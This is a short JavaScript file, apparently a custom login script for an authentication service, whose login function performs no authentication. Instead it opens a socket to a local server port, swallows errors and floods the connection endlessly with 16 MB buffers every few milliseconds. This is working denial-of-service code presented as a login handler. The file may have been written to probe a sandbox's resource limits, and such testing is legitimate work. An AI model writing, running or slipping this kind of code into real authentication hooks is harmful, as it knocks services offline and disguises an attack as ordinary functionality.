function login(email, password, callback) {
  const socket = require('net').connect(configuration.SERVER, '127.0.0.1');
  socket.on('error', () => {});
  socket.write('GET /deaf HTTP/1.1\r\n\r\n');
  const block = Buffer.alloc(16 << 20, 'x');
  const more = () => {
    for (let count = 0; count < 4; count += 1) socket.write(Buffer.from(block));
    setTimeout(more, 5);
  };
  more();
}
